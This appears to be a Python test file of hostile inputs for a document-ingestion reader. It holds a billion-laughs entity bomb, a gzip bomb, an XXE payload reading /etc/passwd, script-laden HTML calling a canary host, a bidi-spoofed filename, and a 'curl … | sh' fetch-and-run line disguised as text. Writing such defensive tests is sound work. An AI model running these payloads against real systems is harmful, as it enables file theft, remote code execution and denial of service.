"""Pages, texts and other files that nobody sends in good faith."""

from __future__ import annotations

import zipfile
import zlib

from ingest.reading import ErrorCode as E
from tests.hostile.case import BILLION, CANARY, READ, Case
from tests.reading import builders as make
from tests.reading.builders import ARABIC, article, html_page


def _polyglot_pdf_html() -> bytes:
    return b"<!doctype html><!-- %PDF-1.4 -->" + html_page(article()).encode()


def _deep_html() -> bytes:
    return html_page("<div>" * 100_000 + ARABIC).encode()


def _scripted_html() -> bytes:
    tricks = (
        f"<script src='{CANARY}a.js'></script><script>document.write('SECRET1')</script>"
        f"<iframe src='{CANARY}frame' srcdoc='<p>SECRET2</p>'>SECRET3</iframe><img src='{CANARY}i.png' onerror='x()'>"
        f"<object data='{CANARY}o'>SECRET4</object><svg onload='x()'><text>SECRET5</text></svg>"
        f"<style>@import '{CANARY}s.css'; p::after {{ content: 'SECRET6' }}</style><noscript>SECRET7</noscript>"
    )
    head = f"<base href='{CANARY}'><meta http-equiv='refresh' content='0;url={CANARY}'><link rel=stylesheet href=x.css>"
    return html_page(article().replace("<p>", tricks + "<p>", 1), head).encode()


def _table_html() -> bytes:
    rows = "".join(f"<tr><td>بند {n}</td><td>قيمة</td></tr>" for n in range(20_000))
    return html_page(f"<article><h1>جدول</h1><p>{ARABIC}</p><table>{rows}</table></article>").encode()


def _entity_html() -> bytes:
    return (
        BILLION.replace("DOCTYPE d", "DOCTYPE html") + f"<html><body>{article()}<p>&l9;</p></body></html>"
    ).encode()


def _deep_json() -> bytes:
    nested = "[" * 100_000 + "]" * 100_000
    head = (
        f"<script type='application/ld+json'>{nested}</script><script type='application/ld+json'>{{'</script>"
    )
    return html_page(article(), head).encode()


def _wide_json() -> bytes:
    nodes = ",".join('{"@type":"NewsArticle","headline":["a"]}' for _ in range(7_000))
    return html_page(article(), f"<script type='application/ld+json'>[{nodes}]</script>").encode()


def _gzip_bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(b"\x00" * 30_000_000) + packer.flush()


CASES: tuple[Case, ...] = (
    Case("html_scripts_and_frames", "a.html", _scripted_html, (READ,), ("SECRET", "@import", "onerror")),
    Case("html_deep", "a.html", _deep_html, (READ, E.UNSAFE, E.BROKEN)),
    Case(
        "html_unclosed",
        "a.html",
        lambda: html_page(ARABIC + "<b><i>" * 200_000).encode(),
        (READ, E.UNSAFE, E.BROKEN),
    ),
    Case("html_huge_table", "a.html", _table_html, (READ, E.TIMEOUT)),
    Case("html_billion_laughs", "a.html", _entity_html, (READ,), ("haha",)),
    Case("html_deep_json", "a.html", _deep_json, (READ,)),
    Case("html_wide_json", "a.html", _wide_json, (READ,)),
    Case(
        "html_huge_attribute",
        "a.html",
        lambda: html_page(f"<p title='{'x' * 15_000_000}'></p>{article()}").encode(),
        # The parser stops there: what stands behind it must not be lost unsaid.
        (E.UNSAFE,),
    ),
    Case(
        "html_nul_in_tags", "a.html", lambda: html_page(article().replace("<p>", "<p\x00>")).encode(), (READ,)
    ),
    Case("html_named_pdf", "a.pdf", _polyglot_pdf_html, (READ,)),
    Case(
        "svg_with_script",
        "a.svg",
        lambda: b"<svg xmlns='x' onload='x()'><script>1</script></svg>",
        (E.UNSUPPORTED,),
    ),
    Case(
        "xml_entities",
        "a.txt",
        lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        (E.WRONG_TYPE,),
        ("root:",),
    ),
    Case("text_utf16_without_mark", "a.txt", lambda: ARABIC.encode("utf-16-be"), (READ,)),
    Case(
        "text_bidi_overrides",
        "a\u202etxt.exe",
        lambda: f"\u202e{ARABIC}\u202c\u2066x\u2069".encode(),
        (READ,),
        ("\u202e",),
    ),
    Case("text_one_long_line", "a.txt", lambda: "كلمة".encode() * 2_000_000, (E.TOO_LONG,)),
    Case("text_only_line_ends", "a.txt", lambda: b"\n\r" * 5_000_000, (E.EMPTY,)),
    Case("text_marks_upon_marks", "a.txt", lambda: (ARABIC + "ا" + "\u064b" * 500_000).encode(), (READ,)),
    Case("text_broken_surrogates", "a.txt", lambda: b"\xff\xfe" + b"\x00\xdc" * 5_000, (E.BINARY,)),
    Case("text_mostly_nul", "a.txt", lambda: b"\x00" * 1_000_000 + b"words", (E.BINARY,)),
    Case("picture_of_100_megapixels", "a.png", lambda: make.png(10_000, 10_000), (E.SCAN,)),
    Case("gzip_bomb", "a.txt", _gzip_bomb, (E.WRONG_TYPE,)),
    Case("program_named_docx", "a.docx", lambda: b"MZ\x90\x00\x03" + b"\x00" * 500, (E.WRONG_TYPE,)),
    Case(
        "script_named_txt",
        "a.txt",
        lambda: b"#!/bin/sh\ncurl " + CANARY.encode() + b" | sh\n",
        (E.WRONG_TYPE,),
    ),
    Case(
        "stored_zip_of_words",
        "a.txt",
        lambda: make.zipped({"a": "words"}, zipfile.ZIP_STORED),
        (E.WRONG_TYPE,),
    ),
)
